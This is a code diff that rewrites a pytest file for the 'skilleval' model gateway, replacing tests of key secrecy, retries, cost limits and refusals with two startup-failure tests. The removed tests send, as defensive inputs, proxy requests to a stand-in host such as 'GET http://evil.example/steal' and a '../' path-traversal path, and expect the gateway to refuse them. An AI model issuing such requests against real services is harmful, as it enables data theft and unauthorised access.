@@ -1,333 +1,67 @@
-"""The gateway as a process: doors, attribution, faults, refusals, where the key is and is not."""
+"""A gateway that does not come up: said with its own words, and put away."""
 
-import json
-import os
-import socket
-import subprocess
-from collections.abc import Iterator
-from concurrent.futures import ThreadPoolExecutor
-from datetime import date
-from pathlib import Path
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass, field
 
-import httpx
 import pytest
 
-from skilleval.domain.price import Price, PriceTable
+from skilleval.errors import ModelError
 from skilleval.gateway import Gateway, GatewayConfig
-from tests.builders_gateway import CACHED, FRESH, OUTPUT, Provider, serving
-
-KEY = "sk-secret-of-the-test-0123456789"
-MODEL = "m-1"
-PRICES = PriceTable(as_of=date(2026, 1, 1), prices=(Price(model=MODEL, input=10.0, output=50.0),))
-CALL_USD = (FRESH * 10 + CACHED * 1 + OUTPUT * 50) / 1e6
-
-
-@pytest.fixture
-def provider() -> Iterator[Provider]:
-    with serving(Provider()) as provider:
-        yield provider
-
-
-def config(provider: Provider, **changes: object) -> GatewayConfig:
-    plain = GatewayConfig(
-        upstream=provider.url, models=(MODEL,), prices=PRICES, retries=2, backoff_s=0.02, silence_s=0.4
-    )
-    return plain.model_copy(update=changes)
-
-
-def through(folder: Path) -> httpx.Client:
-    """A client inside a room: all it has is the socket."""
-    return httpx.Client(
-        transport=httpx.HTTPTransport(uds=str(folder / "model.sock"), verify=False),
-        base_url="http://gateway",
-        timeout=20,
-    )
-
-
-def ask(client: httpx.Client, *, model: str = MODEL, stream: bool = False, **headers: str) -> httpx.Response:
-    body = {
-        "model": model,
-        "stream": stream,
-        "max_tokens": 5,
-        "messages": [{"role": "user", "content": "hi"}],
-    }
-    return client.post(
-        "/v1/messages?beta=true",
-        json=body,
-        headers={"x-api-key": "dummy", "anthropic-version": "v", **headers},
-    )
-
-
-def raw(folder: Path, request: bytes) -> bytes:
-    with socket.socket(socket.AF_UNIX) as sock:
-        sock.settimeout(10)
-        sock.connect(str(folder / "model.sock"))
-        sock.sendall(request)
-        return sock.recv(65536)
-
-
-def test_calls_are_put_down_to_the_trial_of_their_socket(provider: Provider) -> None:
-    """Plain and streamed calls through two sockets end in two accounts, and in the sum."""
-    with Gateway(config(provider), key=KEY, slots=2) as gateway:
-        gateway.open(0, "trial-a")
-        gateway.open(1, "trial-b")
-        with through(gateway.folders[0]) as one, through(gateway.folders[1]) as two:
-            plain = ask(one)
-            streamed = ask(one, stream=True)
-            ask(two)
-        a, b, both = gateway.account("trial-a"), gateway.account("trial-b"), gateway.account()
-
-    assert plain.json()["content"][0]["text"] == "done"
-    assert "message_stop" in streamed.text
-    assert (a.answered, b.answered, both.answered) == (2, 1, 3)
-    assert a.usage.fresh_tokens == 2 * FRESH
-    assert a.usage.cached_tokens == 2 * CACHED
-    assert a.usage.output_tokens == 2 * OUTPUT
-    assert a.usage.cost_usd == pytest.approx(2 * CALL_USD)
-    assert both.usage.cost_usd == pytest.approx(3 * CALL_USD)
-
-
-def test_the_key_reaches_the_provider_and_nothing_else(provider: Provider, tmp_path: Path) -> None:
-    """The provider sees the real key; no file, argument, environment or answer of ours holds it."""
-    with Gateway(
-        config(provider, log_folder=str(tmp_path)), key=KEY, slots=1, environment={"PATH": "/bin", "T": KEY}
-    ) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            answer = ask(client)
-        assert gateway._process is not None
-        pid = gateway._process.pid
-        seen = Path(f"/proc/{pid}/environ").read_bytes() + Path(f"/proc/{pid}/cmdline").read_bytes()
-        shown = repr(gateway) + answer.text + str(answer.headers)
-
-    assert provider.headers[0]["x-api-key"] == KEY
-    assert KEY.encode() not in seen
-    assert KEY not in shown
-    assert all(KEY not in file.read_text() for file in tmp_path.iterdir())
-
-
-def test_a_new_trial_gets_a_new_socket(provider: Provider) -> None:
-    """A connection of the trial before ends, and what comes now is the new trial's."""
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "first")
-        with through(gateway.folders[0]) as old:
-            ask(old)
-            gateway.open(0, "second")
-            ask(old)  # a broken connection is opened anew, on the new socket
-        gateway.close(0)
-        first, second = gateway.account("first"), gateway.account("second")
-        left = list(gateway.folders[0].iterdir())
-
-    assert (first.answered, second.answered) == (1, 1)
-    assert left == []
-
-
-@pytest.mark.parametrize(
-    "request_line",
-    [
-        "CONNECT evil.example:443 HTTP/1.1",
-        "GET http://evil.example/steal?x=1 HTTP/1.1",
-        "POST http://1.2.3.4:8/ HTTP/1.1",
-    ],
-)
-def test_a_proxy_request_is_refused_and_remembered(provider: Provider, request_line: str) -> None:
-    """Everything but the model is refused; host, port and method are known, the path is not."""
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        answer = raw(gateway.folders[0], f"{request_line}\r\nHost: x\r\nContent-Length: 0\r\n\r\n".encode())
-        refused = gateway.account("t").refused
-
-    assert answer.startswith(b"HTTP/1.1 403")
-    assert len(refused) == 1
-    assert refused[0].trial == "t"
-    assert refused[0].method == request_line.split(maxsplit=1)[0]
-    assert refused[0].target in {"evil.example:443", "evil.example", "1.2.3.4:8"}
-
-
-@pytest.mark.parametrize(
-    "path", ["/v1/models", "/skilleval/account", "/v1/messages/../../skilleval/account", "/"]
-)
-def test_a_room_reaches_no_other_path(provider: Provider, path: str) -> None:
-    """The bot's own paths do not exist on a trial's socket, nor do others of the provider."""
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        answer = raw(gateway.folders[0], f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
-        refused = gateway.account("t").refused
-
-    assert answer.startswith(b"HTTP/1.1 403")
-    assert len(refused) == 1
-
-
-def test_another_model_is_refused(provider: Provider) -> None:
-    """Only the plan's models are asked; the provider does not see the call."""
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            answer = ask(client, model="m-2")
-
-    assert answer.status_code == 404
-    assert provider.headers == []
-
-
-@pytest.mark.parametrize(("name", "value"), [("x-api-key", "{}"), ("authorization", "Bearer {}")])
-def test_the_key_goes_the_way_the_client_chose(provider: Provider, name: str, value: str) -> None:
-    """The CLI sends a key header, newer SDKs a bearer; the provider gets the real key in the same place."""
-    with Gateway(config(provider), key=KEY, slots=1) as gateway, httpx.Client(base_url=gateway.url) as bot:
-        answer = bot.post(
-            "/v1/messages",
-            json={"model": MODEL, "max_tokens": 5, "messages": []},
-            headers={name: value.format(gateway.token)},
-        )
-    sent = provider.headers[0]
-
-    assert answer.status_code == 200
-    assert sent[name] == value.format(KEY)
-    assert gateway.token not in str(sent)
-
-
-def test_the_bot_needs_its_token(provider: Provider) -> None:
-    """Whoever finds the port on loopback gets nothing without the token."""
-    with Gateway(config(provider), key=KEY, slots=1) as gateway, httpx.Client(base_url=gateway.url) as client:
-        stranger = ask(client)
-        bot = client.post(
-            "/v1/messages",
-            json={"model": MODEL, "max_tokens": 5, "messages": []},
-            headers={"x-api-key": gateway.token, "x-skilleval-trial": "of-the-bot"},
-        )
-        account = gateway.account("of-the-bot")
-
-    assert stranger.status_code == 401
-    assert bot.status_code == 200
-    assert account.answered == 1
-
-
-@pytest.mark.parametrize("fault", ["429", "529", "cut", "silence", "malformed"])
-def test_a_passing_fault_is_tried_again_and_counted_once(provider: Provider, fault: str) -> None:
-    """The agent sees one whole answer, and the sums equal the server's own count."""
-    provider.faults = [fault]
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            answer = ask(client, stream=True)
-        account = gateway.account("t")
-
-    assert "message_stop" in answer.text
-    assert account.faults == ()
-    assert account.answered == provider.answered == 1
-    assert account.usage.output_tokens == OUTPUT
-
-
-@pytest.mark.parametrize("fault", ["529", "cut", "silence", "malformed", "wrong-model"])
-def test_a_lasting_fault_is_ours_and_costs_the_agent_nothing(provider: Provider, fault: str) -> None:
-    """After the retries the agent gets an error that it shall not repeat, and the account names the fault."""
-    provider.faults = [fault] * 9
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            answer = ask(client, stream=True)
-        account = gateway.account("t")
-
-    assert answer.status_code >= 500
-    assert answer.headers["x-should-retry"] == "false"
-    assert len(account.faults) == 1
-    assert account.usage.tokens == 0
-
-
-@pytest.mark.parametrize(("fault", "words"), [("429-spent", "spending limit"), ("401", "authentication")])
-def test_what_waiting_does_not_mend_ends_the_run(provider: Provider, fault: str, words: str) -> None:
-    """A spent limit or a wrong key is said once; every later call is refused without asking."""
-    provider.faults = [fault]
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            ask(client)
-            later = ask(client)
-        account = gateway.account("t")
-
-    assert words in account.fatal
-    assert later.status_code == 403
-    assert len(provider.headers) == 1
-
-
-def test_the_ceiling_holds(provider: Provider) -> None:
-    """At max-cost-usd nothing more is asked, and the account says so."""
-    with Gateway(config(provider, max_cost_usd=CALL_USD * 1.5), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            statuses = [ask(client).status_code for _ in range(4)]
-        account = gateway.account("t")
-
-    assert statuses == [200, 200, 403, 403]
-    assert "max-cost-usd" in account.fatal
-
-
-def test_what_a_cut_answer_cost_is_part_of_the_ceiling(provider: Provider) -> None:
-    """The tokens of an answer that broke off are paid, so they are summed, apart from the trial's usage."""
-    provider.faults = ["cut"]
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            ask(client, stream=True)
-        account = gateway.account("t")
-
-    assert account.lost_usd > 0
-    assert account.usage.cost_usd == pytest.approx(CALL_USD)
-
-
-def test_the_logs_hold_counts_and_no_text(provider: Provider, tmp_path: Path) -> None:
-    """One line a call and one a refused attempt: whose, what, how much; never a body."""
-    with Gateway(config(provider, log_folder=str(tmp_path)), key=KEY, slots=1) as gateway:
-        gateway.open(0, "t")
-        with through(gateway.folders[0]) as client:
-            ask(client)
-        raw(gateway.folders[0], b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
-        gateway.account()
-    calls = [json.loads(line) for line in (tmp_path / "model-calls.jsonl").read_text().splitlines()]
-    refused = [json.loads(line) for line in (tmp_path / "refused.jsonl").read_text().splitlines()]
-
-    assert calls[0]["trial"] == "t"
-    assert calls[0]["usage"]["output_tokens"] == OUTPUT
-    assert "done" not in json.dumps(calls)
-    assert refused[0]["target"] == "evil.example:443"
-
-
-def test_a_gateway_ends_with_its_bot(provider: Provider) -> None:
-    """When the bot's end of stdin closes, however it died, the process is gone and its key with it."""
-    with Gateway(config(provider), key=KEY, slots=1) as gateway:
-        process = gateway._process
-        assert process is not None
-        assert process.stdin is not None
-        process.stdin.close()
-        code = process.wait(timeout=10)
-
-    assert code == 0
-
-
-def test_fifty_doors_open_quickly(provider: Provider) -> None:
-    """Fifty sockets serve at the same time, each its own trial."""
-    with Gateway(config(provider), key=KEY, slots=50) as gateway:
-        with ThreadPoolExecutor(16) as pool:
-            list(pool.map(lambda number: gateway.open(number, f"t{number}"), range(50)))
-
-        def one(number: int) -> int:
-            with through(gateway.folders[number]) as client:
-                return ask(client).status_code
-
-        with ThreadPoolExecutor(16) as pool:
-            statuses = list(pool.map(one, range(50)))
-        answered = [gateway.account(f"t{number}").answered for number in range(50)]
-
-    assert statuses == [200] * 50
-    assert answered == [1] * 50
-
-
-def test_nothing_is_left_behind(provider: Provider) -> None:
-    """After the context neither process nor folder is there."""
-    with Gateway(config(provider), key=KEY, slots=2) as gateway:
-        assert gateway._process is not None
-        pid, root = gateway._process.pid, gateway.folders[0].parent
-
-    assert not root.exists()
-    with pytest.raises(ProcessLookupError):
-        os.kill(pid, 0)
-    assert subprocess.run(["ls", str(root)], capture_output=True, check=False).returncode != 0
+from skilleval.gateway.config import Orders
+
+
+@dataclass
+class Dud:
+    """Launches a gateway that says so much and ends; remembers what became of it."""
+
+    says: tuple[str, ...] = ()
+    said: str = ""
+    slots: tuple[str, ...] = ("/slots/0",)
+    sources: tuple[str, ...] = ("volume",)
+    environment: Mapping[str, str] = field(default_factory=lambda: {"HTTPS_PROXY": "http://proxy:1"})
+    sent: list[str] = field(default_factory=list)
+    stopped: int = 0
+
+    def launch(self, _slots: int) -> "Dud":
+        """Return itself."""
+        return self
+
+    def send(self, line: str) -> None:
+        """Keep it."""
+        self.sent.append(line)
+
+    def lines(self) -> Iterator[str]:
+        """Yield what it says."""
+        yield from self.says
+
+    def stop(self) -> None:
+        """Count."""
+        self.stopped += 1
+
+
+@pytest.mark.parametrize("says", [(), ("Traceback",), ("{}",), ("[1]",), ('{"port": "x"}',)])
+def test_a_gateway_that_does_not_come_up_is_stopped_and_said(says: tuple[str, ...]) -> None:
+    """Its last words are in the error, and nothing of it is left."""
+    dud = Dud(says=says, said="No module named skilleval\n")
+    gateway = Gateway(GatewayConfig(upstream="http://x", models=()), key="sk-1", slots=1, launcher=dud)
+
+    with pytest.raises(ModelError, match="did not come up: No module named skilleval") as caught, gateway:
+        pass
+    assert dud.stopped == 1
+    assert "sk-1" not in str(caught.value)
+
+
+def test_orders_hold_key_slots_and_environment() -> None:
+    """They go over stdin, once: neither arguments nor environment hold a key or a proxy's password."""
+    dud = Dud()
+    with (
+        pytest.raises(ModelError),
+        Gateway(GatewayConfig(upstream="http://x", models=()), key="sk-1", slots=1, launcher=dud),
+    ):
+        pass
+    (line,) = dud.sent
+    orders = Orders.model_validate_json(line)
+
+    assert (orders.key, orders.slots) == ("sk-1", ("/slots/0",))
+    assert orders.environment == {"HTTPS_PROXY": "http://proxy:1"}
+    assert "sk-1" not in repr(orders)
